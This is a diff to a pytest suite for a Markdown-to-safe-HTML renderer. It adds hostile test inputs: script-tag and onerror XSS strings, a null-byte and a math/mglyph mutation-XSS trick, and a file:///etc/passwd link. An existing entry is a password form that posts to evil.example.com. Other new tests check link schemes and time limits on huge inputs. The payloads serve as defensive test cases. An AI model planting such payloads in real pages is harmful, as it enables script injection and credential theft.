@@ -1,6 +1,7 @@
 """Markdown to safe HTML: what an article may hold, and what a hostile text may not do."""
 
 import re
+import time
 from html.parser import HTMLParser
 
 import pytest
@@ -164,6 +165,11 @@ HOSTILE = [
     '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
     "| <script>alert(1)</script> |\n|:-:|\n| [x](javascript:alert(1)) |",
     "[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
+    "</section></div></main><h1>x</h1>",
+    "[x](file:///etc/passwd)",
+    "::: care-card evil\nx\n:::",
+    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
     "<style>body{display:none}</style>\n\n<form action=https://evil.example.com><input name=password></form>",
 ]
 # fmt: on
@@ -204,3 +210,29 @@ def test_deep_nesting_is_cut_short_not_followed(opening):
 def test_what_is_longer_than_any_article_is_cut():
     assert render("a" * 1_000_000).html == f"<p>{'a' * MAX_CHARACTERS}</p>\n"
     assert render("a " * 1_000_000).words == MAX_CHARACTERS // 2
+
+
+def test_links_lead_to_pages_mail_and_phones_only():
+    page = Elements()
+    page.feed(render("[a](/a/) [b](https://example.com) [c](mailto:c@example.com) [d](tel:+1518) [e](ftp://e)").html)
+    assert page.links == ["/a/", "https://example.com", "mailto:c@example.com", "tel:+1518"]
+
+
+# fmt: off
+MONSTERS = {
+    "stars": "*a " * 100_000,
+    "links": "[a](" * 50_000,
+    "cards": "::: urgent x\n" * 10_000,
+    "pull quotes": "::: pull a\nx\n:::\n" * 8_000,
+    "footnotes": "[^a]" * 50_000,
+    "equal headings": "# a\n" * 50_000,
+    "a table": "|a" * 20_000 + "\n" + "|-" * 20_000 + "\n" + "|\n" * 2_000,
+}
+# fmt: on
+
+
+@pytest.mark.parametrize("text", MONSTERS.values(), ids=MONSTERS)
+def test_a_monstrous_text_costs_seconds_not_minutes(text):
+    began = time.process_time()
+    render(text)
+    assert time.process_time() - began < 15  # about 1 s each; the room is for slow machines
